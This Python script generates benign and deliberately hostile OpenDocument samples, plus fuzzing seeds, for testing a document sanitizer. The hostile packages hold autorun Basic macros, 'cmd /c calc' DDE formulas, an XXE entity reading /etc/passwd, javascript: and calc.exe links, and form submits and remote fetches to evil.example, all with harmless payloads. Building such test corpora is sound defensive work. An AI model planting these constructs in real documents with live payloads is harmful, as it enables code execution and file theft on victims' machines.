#!/usr/bin/env python3
"""Make the OpenDocument samples in corpus/odf/ and the fuzzing seeds in corpus/seeds/odf/.

Benign documents (Japanese and English text, styles, header and footer, a
table, an image, an http link) are written here as flat ODF XML and turned
into real packages by LibreOffice:
    soffice --headless --convert-to odt|ods|odp|ott
(Debian packages libreoffice-writer-nogui, libreoffice-calc-nogui,
libreoffice-impress-nogui, fonts-noto-cjk). Without soffice the benign
samples already committed are kept as they are.

Hostile packages are built with zipfile from small hand-written parts, each
carrying one construct the sanitizer must remove (or must refuse the whole
file for). Every payload is harmless: macros show a message box, links point
at example hosts or a calculator path, the OLE object is an empty compound
file that only carries the Equation Editor class id.

Run from anywhere: python3 corpus/make-odf.py [--hostile-only]
(--hostile-only keeps the committed benign samples instead of converting anew.)
"""
import os
import shutil
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib
import base64

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "odf")
SEEDS = os.path.join(HERE, "seeds", "odf")

NS = {
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "style": "urn:oasis:names:tc:opendocument:xmlns:style:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "draw": "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0",
    "fo": "urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0",
    "xlink": "http://www.w3.org/1999/xlink",
    "dc": "http://purl.org/dc/elements/1.1/",
    "meta": "urn:oasis:names:tc:opendocument:xmlns:meta:1.0",
    "number": "urn:oasis:names:tc:opendocument:xmlns:datastyle:1.0",
    "svg": "urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0",
    "form": "urn:oasis:names:tc:opendocument:xmlns:form:1.0",
    "script": "urn:oasis:names:tc:opendocument:xmlns:script:1.0",
    "presentation": "urn:oasis:names:tc:opendocument:xmlns:presentation:1.0",
    "of": "urn:oasis:names:tc:opendocument:xmlns:of:1.2",
    "dom": "http://www.w3.org/2001/xml-events",
    "config": "urn:oasis:names:tc:opendocument:xmlns:config:1.0",
    "ooo": "http://openoffice.org/2004/office",
}
XMLNS = " ".join(f'xmlns:{k}="{v}"' for k, v in NS.items())

MIME = {
    "odt": "application/vnd.oasis.opendocument.text",
    "ods": "application/vnd.oasis.opendocument.spreadsheet",
    "odp": "application/vnd.oasis.opendocument.presentation",
    "ott": "application/vnd.oasis.opendocument.text-template",
}

JA = "住民票の写しの交付申請について、窓口は午前八時半から受け付けます。"
EN = "Applications for certified copies of the residence record open at 8:30."
MACRO = "vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"


def png(w=24, h=16, seed=0):
    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)
    raw = b"".join(b"\0" + bytes(v for x in range(w)
                                 for v in ((x * 10 + seed) & 255, (y * 15) & 255, (x * y + seed * 3) & 255))
                   for y in range(h))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


# --------------------------------------------------------------------------
# Benign documents through LibreOffice

def fodt():
    img = base64.b64encode(png(48, 32, 7)).decode()
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<office:document {XMLNS} office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.text">
 <office:meta><dc:title>申請案内 / Application guide</dc:title></office:meta>
 <office:font-face-decls>
  <style:font-face style:name="Noto Sans CJK JP" svg:font-family="'Noto Sans CJK JP'"/>
 </office:font-face-decls>
 <office:styles>
  <style:style style:name="Standard" style:family="paragraph">
   <style:text-properties style:font-name="Noto Sans CJK JP" fo:font-size="11pt"
     style:font-name-asian="Noto Sans CJK JP" style:font-size-asian="11pt"/>
  </style:style>
  <style:style style:name="Heading" style:family="paragraph" style:parent-style-name="Standard">
   <style:text-properties fo:font-size="16pt" fo:font-weight="bold" style:font-size-asian="16pt"
     style:font-weight-asian="bold"/>
  </style:style>
 </office:styles>
 <office:automatic-styles>
  <style:page-layout style:name="pm1">
   <style:page-layout-properties fo:page-width="21cm" fo:page-height="29.7cm" fo:margin="2cm"/>
  </style:page-layout>
  <style:style style:name="T1" style:family="text"><style:text-properties fo:font-weight="bold"
    style:font-weight-asian="bold"/></style:style>
  <style:style style:name="fr1" style:family="graphic"><style:graphic-properties
    style:wrap="none" style:vertical-pos="top" style:horizontal-pos="center"/></style:style>
 </office:automatic-styles>
 <office:master-styles>
  <style:master-page style:name="Standard" style:page-layout-name="pm1">
   <style:header><text:p text:style-name="Standard">ヘッダー 市民課 Header Citizens Division</text:p></style:header>
   <style:footer><text:p text:style-name="Standard">フッター 1ページ Footer</text:p></style:footer>
  </style:master-page>
 </office:master-styles>
 <office:body><office:text>
  <text:h text:style-name="Heading" text:outline-level="1">住民票の交付 Residence record</text:h>
  <text:p text:style-name="Standard">{JA}</text:p>
  <text:p text:style-name="Standard">{EN} <text:span text:style-name="T1">太字 bold</text:span></text:p>
  <text:p text:style-name="Standard">詳しくは <text:a xlink:type="simple" xlink:href="https://www.example.jp/juminhyo">市のウェブサイト city website</text:a> をご覧ください。</text:p>
  <table:table table:name="料金表">
   <table:table-column table:number-columns-repeated="2"/>
   <table:table-row><table:table-cell office:value-type="string"><text:p>種類 Kind</text:p></table:table-cell>
    <table:table-cell office:value-type="string"><text:p>手数料 Fee</text:p></table:table-cell></table:table-row>
   <table:table-row><table:table-cell office:value-type="string"><text:p>住民票 Residence record</text:p></table:table-cell>
    <table:table-cell office:value-type="float" office:value="300"><text:p>300</text:p></table:table-cell></table:table-row>
  </table:table>
  <text:p text:style-name="Standard"><draw:frame draw:style-name="fr1" draw:name="図1" text:anchor-type="paragraph"
    svg:width="4cm" svg:height="2.7cm"><draw:image><office:binary-data>{img}</office:binary-data></draw:image></draw:frame></text:p>
  <text:p text:style-name="Standard">以上 End.</text:p>
 </office:text></office:body>
</office:document>
"""


def fods():
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<office:document {XMLNS} office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.spreadsheet">
 <office:body><office:spreadsheet>
  <table:table table:name="予算">
   <table:table-column table:number-columns-repeated="3"/>
   <table:table-row>
    <table:table-cell office:value-type="string"><text:p>項目 Item</text:p></table:table-cell>
    <table:table-cell office:value-type="string"><text:p>金額 Amount</text:p></table:table-cell>
    <table:table-cell office:value-type="string"><text:p>備考 Note</text:p></table:table-cell>
   </table:table-row>
   <table:table-row>
    <table:table-cell office:value-type="string"><text:p>道路補修 Road repair</text:p></table:table-cell>
    <table:table-cell office:value-type="float" office:value="1200000"><text:p>1200000</text:p></table:table-cell>
    <table:table-cell office:value-type="string"><text:p>令和六年度 FY2024</text:p></table:table-cell>
   </table:table-row>
   <table:table-row>
    <table:table-cell office:value-type="string"><text:p>図書館 Library</text:p></table:table-cell>
    <table:table-cell office:value-type="float" office:value="800000"><text:p>800000</text:p></table:table-cell>
    <table:table-cell office:value-type="string"><text:p>新刊購入 new books</text:p></table:table-cell>
   </table:table-row>
   <table:table-row>
    <table:table-cell office:value-type="string"><text:p>合計 Total</text:p></table:table-cell>
    <table:table-cell table:formula="of:=SUM([.B2:.B3])" office:value-type="float" office:value="2000000"><text:p>2000000</text:p></table:table-cell>
    <table:table-cell/>
   </table:table-row>
  </table:table>
 </office:spreadsheet></office:body>
</office:document>
"""


def fodp():
    slides = ""
    for i, (ja, en) in enumerate([("防災訓練のお知らせ", "Disaster drill notice"),
                                  ("集合場所は市民体育館です", "Meet at the city gymnasium")]):
        slides += f"""
  <draw:page draw:name="page{i + 1}" draw:master-page-name="Default">
   <draw:frame svg:x="2cm" svg:y="2cm" svg:width="24cm" svg:height="3cm">
    <draw:text-box><text:p>{ja}</text:p><text:p>{en}</text:p></draw:text-box>
   </draw:frame>
  </draw:page>"""
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<office:document {XMLNS} office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.presentation">
 <office:styles/>
 <office:automatic-styles>
  <style:page-layout style:name="PM1"><style:page-layout-properties fo:page-width="28cm" fo:page-height="15.75cm"/></style:page-layout>
 </office:automatic-styles>
 <office:master-styles><style:master-page style:name="Default" style:page-layout-name="PM1"/></office:master-styles>
 <office:body><office:presentation>{slides}
 </office:presentation></office:body>
</office:document>
"""


def soffice(src_name, src_text, fmt, dest):
    exe = shutil.which("soffice")
    if not exe:
        return False
    with tempfile.TemporaryDirectory() as td:
        src = os.path.join(td, src_name)
        with open(src, "w", encoding="utf-8") as f:
            f.write(src_text)
        prof = os.path.join(td, "profile")
        subprocess.run([exe, f"-env:UserInstallation=file://{prof}", "--headless",
                        "--convert-to", fmt, "--outdir", td, src],
                       check=True, capture_output=True, timeout=300)
        out = os.path.splitext(src)[0] + "." + fmt
        shutil.copyfile(out, dest)
    return True


# --------------------------------------------------------------------------
# Hostile packages

def manifest(mime, entries):
    lines = ['<?xml version="1.0" encoding="UTF-8"?>',
             '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"'
             ' manifest:version="1.3">',
             f' <manifest:file-entry manifest:full-path="/" manifest:version="1.3"'
             f' manifest:media-type="{mime}"/>']
    for path, media, inner in entries:
        if inner:
            lines.append(f' <manifest:file-entry manifest:full-path="{path}" manifest:media-type="{media}">'
                         f'{inner}</manifest:file-entry>')
        else:
            lines.append(f' <manifest:file-entry manifest:full-path="{path}" manifest:media-type="{media}"/>')
    lines.append("</manifest:manifest>")
    return "\n".join(lines) + "\n"


def content(body, kind="text", scripts="", forms="", decls=""):
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content {XMLNS} office:version="1.3">'
            f'{scripts}<office:automatic-styles/><office:body><office:{kind}>{decls}{forms}{body}'
            f'</office:{kind}></office:body></office:document-content>')


STYLES = (f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-styles {XMLNS} office:version="1.3">'
          '<office:styles><style:style style:name="Standard" style:family="paragraph"/></office:styles>'
          '</office:document-styles>')


def meta(extra=""):
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-meta {XMLNS} office:version="1.3">'
            f'<office:meta><dc:title>テスト test</dc:title>{extra}</office:meta></office:document-meta>')


def package(path, ext, parts, extra_manifest=(), manifest_text=None, mimetype=None,
            order_mimetype_first=True):
    """parts: list of (name, bytes|str, media or None). Members with media are listed."""
    mime = mimetype or MIME[ext]
    entries = [(n, m, None) for n, _, m in parts if m] + list(extra_manifest)
    mf = manifest_text if manifest_text is not None else manifest(MIME[ext], entries)
    with zipfile.ZipFile(path, "w") as z:
        if order_mimetype_first:
            z.writestr(zipfile.ZipInfo("mimetype", (2024, 4, 1, 9, 0, 0)), mime,
                       compress_type=zipfile.ZIP_STORED)
        for n, data, _ in parts:
            zi = zipfile.ZipInfo(n, (2024, 4, 1, 9, 0, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(zi, data.encode() if isinstance(data, str) else data)
        zi = zipfile.ZipInfo("META-INF/manifest.xml", (2024, 4, 1, 9, 0, 0))
        zi.compress_type = zipfile.ZIP_DEFLATED
        z.writestr(zi, mf)


def para(t):
    return f"<text:p>{t}</text:p>"


def ole_equation():
    """A minimal compound file whose root entry carries the Equation Editor CLSID."""
    sec = 512
    hdr = bytearray(sec)
    hdr[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", hdr, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIII", hdr, 44, 1, 1, 0, 0x1000, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    hdr[76:76 + 4] = struct.pack("<I", 0)  # DIFAT[0] = FAT in sector 0
    for i in range(1, 109):
        struct.pack_into("<I", hdr, 76 + 4 * i, 0xFFFFFFFF)
    fat = bytearray(b"\xff" * sec)
    struct.pack_into("<II", fat, 0, 0xFFFFFFFD, 0xFFFFFFFE)  # sector 0: FAT, sector 1: directory
    dirs = bytearray(sec)
    name = "Root Entry".encode("utf-16-le") + b"\0\0"
    dirs[0:len(name)] = name
    struct.pack_into("<HBB", dirs, 64, len(name), 5, 1)
    struct.pack_into("<III", dirs, 68, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
    # CLSID 0002CE02-0000-0000-C000-000000000046 (Microsoft Equation 3.0)
    dirs[80:96] = bytes.fromhex("02ce020000000000c000000000000046")
    struct.pack_into("<II", dirs, 116, 0xFFFFFFFE, 0)
    return bytes(hdr + fat + dirs) + b"MUGAI-OLE-EQUATION-PAYLOAD"


def hostile():
    mt = MIME
    made = []

    def mk(name, ext, parts, **kw):
        p = os.path.join(OUT, name)
        package(p, ext, parts, **kw)
        made.append(p)

    base = [("styles.xml", STYLES, "text/xml"), ("meta.xml", meta(), "text/xml")]

    # 1. Basic macro run on document open.
    module = ('<?xml version="1.0" encoding="UTF-8"?>\n'
              '<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" '
              'script:language="StarBasic">Sub Main\n MsgBox "MUGAI-BASIC-MACRO"\nEnd Sub\n</script:module>')
    lib = ('<?xml version="1.0" encoding="UTF-8"?>\n<library:library xmlns:library="http://openoffice.org/2000/library"'
           ' library:name="Standard" library:readonly="false" library:passwordprotected="false">'
           '<library:element library:name="Module1"/></library:library>')
    libs = ('<?xml version="1.0" encoding="UTF-8"?>\n<library:libraries xmlns:library="http://openoffice.org/2000/library"'
            ' xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/>'
            '</library:libraries>')
    scripts = ('<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
               f'script:event-name="dom:load" xlink:href="{MACRO}"/></office:event-listeners></office:scripts>')
    mk("macro.odt", "odt", [("content.xml", content(para(f"マクロ付き文書 {JA}"), scripts=scripts), "text/xml")] + base + [
        ("Basic/Standard/Module1.xml", module, "text/xml"),
        ("Basic/Standard/script-lb.xml", lib, "text/xml"),
        ("Basic/script-lc.xml", libs, "text/xml"),
        ("Scripts/python/evil.py", "print('MUGAI-PYTHON-SCRIPT')\n", ""),
    ], extra_manifest=[("Basic/Standard/", "", None), ("Basic/", "", None),
                       ("Scripts/python/evil.py", "", None)])

    # 2. Form button with a macro bound to its click and a form that submits elsewhere.
    forms = ('<office:forms form:automatic-focus="false" form:apply-design-mode="false">'
             '<form:form form:name="Form" form:apply-filter="true" form:command-type="table" '
             'form:control-implementation="ooo:com.sun.star.form.component.Form" '
             'form:action="http://evil.example/submit" xlink:href="http://evil.example/submit" xlink:type="simple">'
             '<form:button form:name="PushButton" form:control-implementation="ooo:com.sun.star.form.component.CommandButton" '
             f'xml:id="control1" form:id="control1" form:label="押す Press" form:button-type="url" xlink:href="{MACRO}">'
             '<office:event-listeners><script:event-listener script:language="ooo:script" '
             f'script:event-name="form:performaction" xlink:href="{MACRO}"/></office:event-listeners>'
             '<form:properties><form:property form:property-name="TargetURL" office:value-type="string" '
             f'office:string-value="{MACRO}"/></form:properties>'
             '</form:button></form:form></office:forms>')
    body = (para("ボタン Button: <draw:control text:anchor-type=\"paragraph\" draw:control=\"control1\" "
                 "svg:width=\"4cm\" svg:height=\"1cm\"/>") + para(JA))
    mk("form-button.odt", "odt", [("content.xml", content(body, forms=forms), "text/xml")] + base)

    # 3. Embedded ODF object with its preview image; 4. OLE object (Equation Editor).
    body = (para("埋め込み Embedded: <draw:frame draw:name=\"Object1\" text:anchor-type=\"paragraph\" "
                 "svg:width=\"3cm\" svg:height=\"2cm\"><draw:object xlink:href=\"./Object 1\" xlink:type=\"simple\" "
                 "xlink:show=\"embed\" xlink:actuate=\"onLoad\"/><draw:image xlink:href=\"./ObjectReplacements/Object 1\" "
                 "xlink:type=\"simple\" xlink:show=\"embed\" xlink:actuate=\"onLoad\"/></draw:frame>")
            + para("OLE: <draw:frame draw:name=\"Object2\" text:anchor-type=\"paragraph\" svg:width=\"3cm\" svg:height=\"2cm\">"
                   "<draw:object-ole draw:class-id=\"0002CE02-0000-0000-C000-000000000046\" xlink:href=\"./Object 2\" "
                   "xlink:type=\"simple\" xlink:show=\"embed\" xlink:actuate=\"onLoad\"/>"
                   "<draw:image xlink:href=\"./ObjectReplacements/Object 2\" xlink:type=\"simple\" "
                   "xlink:show=\"embed\" xlink:actuate=\"onLoad\"/></draw:frame>")
            + para(JA))
    sub = content(para("MUGAI-SUBDOCUMENT"), scripts=scripts)
    wmf = b"\xd7\xcd\xc6\x9a" + b"\0" * 18 + b"MUGAI-WMF-REPLACEMENT" + b"\0" * 40
    mk("objects.odt", "odt", [("content.xml", content(body), "text/xml")] + base + [
        ("Object 1/content.xml", sub, "text/xml"),
        ("Object 1/styles.xml", STYLES, "text/xml"),
        ("ObjectReplacements/Object 1", png(30, 20, 3), "image/png"),
        ("Object 2", ole_equation(), "application/vnd.sun.star.oleobject"),
        ("ObjectReplacements/Object 2", wmf, "application/x-openoffice-wmf;windows_formatname=&quot;Image WMF&quot;"),
    ], extra_manifest=[("Object 1/", "application/vnd.oasis.opendocument.text", None)])

    # 5. Links: bad schemes, relative escapes, a linked image, linked section; http and mailto kept.
    body = (para('<text:a xlink:type="simple" xlink:href="javascript:alert(\'MUGAI\')">JS リンク</text:a>')
            + para('<text:a xlink:type="simple" xlink:href="file:///c:/windows/system32/calc.exe">電卓 calc</text:a>')
            + para(f'<text:a xlink:type="simple" xlink:href="{MACRO}">マクロ macro link</text:a>')
            + para('<text:a xlink:type="simple" xlink:href=" JaVaScRiPt:alert(1)">mixed case</text:a>')
            + para('<text:a xlink:type="simple" xlink:href="../../secret.odt">上位 parent</text:a>')
            + para('<text:a xlink:type="simple" xlink:href="\\\\evil.example\\share\\x.odt">UNC</text:a>')
            + para('<text:a xlink:type="simple" xlink:href="https://www.example.jp/keep">残すリンク kept link</text:a>')
            + para('<text:a xlink:type="simple" xlink:href="mailto:info@example.jp">メール mail</text:a>')
            + para('<draw:frame draw:name="remote" text:anchor-type="paragraph" svg:width="2cm" svg:height="2cm">'
                   '<draw:image xlink:href="http://evil.example/x.png" xlink:type="simple" xlink:show="embed" '
                   'xlink:actuate="onLoad"/></draw:frame>外部画像 remote image')
            + '<text:section text:name="linked"><text:section-source xlink:href="file:///etc/passwd" '
              'xlink:type="simple"/>' + para("リンクされた節 linked section") + '</text:section>'
            + para('<text:execute-macro text:name="Standard.Module1.Main">マクロ実行 run</text:execute-macro>')
            + para('<text:bibliography-mark text:identifier="ref1" text:bibliography-type="www" '
                   'text:url="file:///c:/windows/system32/calc.exe">参考文献 reference</text:bibliography-mark>')
            + '<text:script script:language="JavaScript">alert("MUGAI")</text:script>'
            + para(JA))
    mk("links.odt", "odt", [("content.xml", content(body), "text/xml"), ("styles.xml", STYLES, "text/xml"),
                            ("meta.xml", meta('<meta:template xlink:type="simple" xlink:href="file:///c:/evil.ott" '
                                              'xlink:title="t"/><meta:auto-reload xlink:href="http://evil.example/" '
                                              'meta:delay="PT0S"/>'), "text/xml")])

    # 6. Spreadsheet: external table source, DDE, web service formulas.
    sheet = ('<table:table table:name="外部"><table:table-source table:mode="copy-all" '
             'xlink:href="http://evil.example/data.ods" table:filter-name="calc8" xlink:type="simple"/>'
             '<table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;http://evil.example/x&quot;)" '
             'office:value-type="string" office:string-value="cached"><text:p>cached</text:p></table:table-cell>'
             '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A0&quot;)" '
             'office:value-type="float" office:value="0"><text:p>0</text:p></table:table-cell>'
             '<table:table-cell table:formula="of:=SUM(1;2)" office:value-type="float" office:value="3">'
             '<text:p>3</text:p></table:table-cell>'
             '<table:table-cell office:value-type="string"><text:p>日本語セル</text:p></table:table-cell>'
             '</table:table-row></table:table>'
             '<table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd" '
             'office:dde-topic="/c calc" office:dde-item="A0"/><table:table/></table:dde-link></table:dde-links>')
    mk("external.ods", "ods", [("content.xml", content(sheet, kind="spreadsheet"), "text/xml")] + base)

    # 7. Writer DDE field.
    decls = ('<text:dde-connection-decls><text:dde-connection-decl office:name="dde1" '
             'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/>'
             '</text:dde-connection-decls>')
    body = para('DDE: <text:dde-connection text:connection-name="dde1">キャッシュ cached</text:dde-connection>') + para(JA)
    mk("dde.odt", "odt", [("content.xml", content(body, decls=decls), "text/xml")] + base)

    # 8. DOCTYPE with an external entity: the whole file is refused.
    xxe = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE office:document-content [\n'
           '<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
           f'<office:document-content {XMLNS} office:version="1.3"><office:body><office:text>'
           '<text:p>&xxe;</text:p></office:text></office:body></office:document-content>')
    mk("doctype.odt", "odt", [("content.xml", xxe, "text/xml")] + base)

    # 9. Encrypted (manifest encryption data; the content is random bytes).
    enc = ('<manifest:encryption-data manifest:checksum-type="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0#sha256-1k" '
           'manifest:checksum="AAAA"><manifest:algorithm manifest:algorithm-name="http://www.w3.org/2001/04/xmlenc#aes256-cbc" '
           'manifest:initialisation-vector="AAAAAAAAAAAAAAAAAAAAAA=="/><manifest:key-derivation '
           'manifest:key-derivation-name="PBKDF2" manifest:key-size="32" manifest:iteration-count="100000" '
           'manifest:salt="AAAAAAAAAAAAAAAAAAAAAA=="/></manifest:encryption-data>')
    rnd = bytes((i * 73 + 41) & 255 for i in range(600))
    mk("encrypted.odt", "odt", [("content.xml", rnd, None)] + base,
       extra_manifest=[("content.xml", "text/xml", enc)])

    # 10. JPEG with EXIF in Pictures/ (comes back without it), SVG (dropped with its frame).
    with open(os.path.join(HERE, "jpeg", "exif.jpg"), "rb") as f:
        jpg = f.read()
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert("MUGAI-SVG")</script>'
           '<rect width="10" height="10"/></svg>')
    body = (para('<draw:frame draw:name="photo" text:anchor-type="paragraph" svg:width="2cm" svg:height="2cm">'
                 '<draw:image xlink:href="Pictures/photo.jpg" xlink:type="simple" xlink:show="embed" '
                 'xlink:actuate="onLoad"/></draw:frame>写真 photo')
            + para('<draw:frame draw:name="vector" text:anchor-type="paragraph" svg:width="2cm" svg:height="2cm">'
                   '<draw:image xlink:href="Pictures/drawing.svg" xlink:type="simple" xlink:show="embed" '
                   'xlink:actuate="onLoad"/></draw:frame>図 drawing')
            + para(JA))
    mk("images.odt", "odt", [("content.xml", content(body), "text/xml")] + base + [
        ("Pictures/photo.jpg", jpg, "image/jpeg"), ("Pictures/drawing.svg", svg, "image/svg+xml"),
        ("Thumbnails/thumbnail.png", png(16, 16, 1), "image/png")])

    # 11. Presentation: a shape that runs a program when clicked, and a slide-show macro.
    ev = ('<office:event-listeners><presentation:event-listener script:event-name="dom:click" '
          'presentation:action="execute" xlink:href="file:///c:/windows/system32/calc.exe" xlink:type="simple" '
          'xlink:show="embed" xlink:actuate="onRequest"/><script:event-listener script:language="ooo:script" '
          f'script:event-name="dom:mouseover" xlink:href="{MACRO}"/></office:event-listeners>')
    pres = ('<draw:page draw:name="page1"><draw:frame svg:x="2cm" svg:y="2cm" svg:width="20cm" svg:height="3cm">'
            f'<draw:text-box><text:p>クリックしないで Do not click</text:p></draw:text-box>{ev}</draw:frame>'
            '<draw:custom-shape draw:engine="com.example.Evil" svg:x="1cm" svg:y="8cm" svg:width="3cm" svg:height="3cm">'
            '<text:p>図形 shape</text:p><draw:enhanced-geometry draw:type="rectangle"/></draw:custom-shape>'
            '</draw:page>')
    mk("events.odp", "odp", [("content.xml", content(pres, kind="presentation"), "text/xml")] + base)

    # 12. Foreign namespaces, a processing instruction and comments.
    body = ('<?xml-stylesheet href="http://evil.example/x.xsl"?><!-- MUGAI-COMMENT -->'
            '<x:payload xmlns:x="http://evil.example/ns">MUGAI-FOREIGN</x:payload>'
            '<text:p xmlns:y="http://evil.example/ns2" y:onload="MUGAI-ATTR" xml:base="file:///c:/">'
            f'{JA}</text:p>')
    mk("foreign.odt", "odt", [("content.xml", content(body), "text/xml")] + base)
    return made


def main():
    os.makedirs(OUT, exist_ok=True)
    os.makedirs(SEEDS, exist_ok=True)
    benign = [("benign.fodt", fodt, "odt", "benign.odt"), ("benign-t.fodt", fodt, "ott", "benign.ott"),
              ("benign.fods", fods, "ods", "benign.ods"), ("benign.fodp", fodp, "odp", "benign.odp")]
    for src, fn, fmt, dest in benign:
        if "--hostile-only" in sys.argv and os.path.exists(os.path.join(OUT, dest)):
            continue
        if not soffice(src, fn(), fmt, os.path.join(OUT, dest)):
            print("soffice not found: keeping the committed", dest, file=sys.stderr)
    made = hostile()
    # Seeds: the small samples, every member stored (the fuzzer repairs
    # stored members' CRCs, so mutations reach the XML code).
    for f in sorted(os.listdir(OUT)):
        p = os.path.join(OUT, f)
        with zipfile.ZipFile(p) as src:
            infos = src.infolist()
            parts = [(i.filename, src.read(i)) for i in infos]
        seed = os.path.join(SEEDS, f)
        with zipfile.ZipFile(seed, "w", zipfile.ZIP_STORED) as z:
            for n, d in parts:
                z.writestr(zipfile.ZipInfo(n, (2024, 4, 1, 9, 0, 0)), d)
        if os.path.getsize(seed) >= 20000:
            os.remove(seed)
    print(f"wrote {len(made)} hostile and {len(benign)} benign samples to {OUT}")


if __name__ == "__main__":
    main()
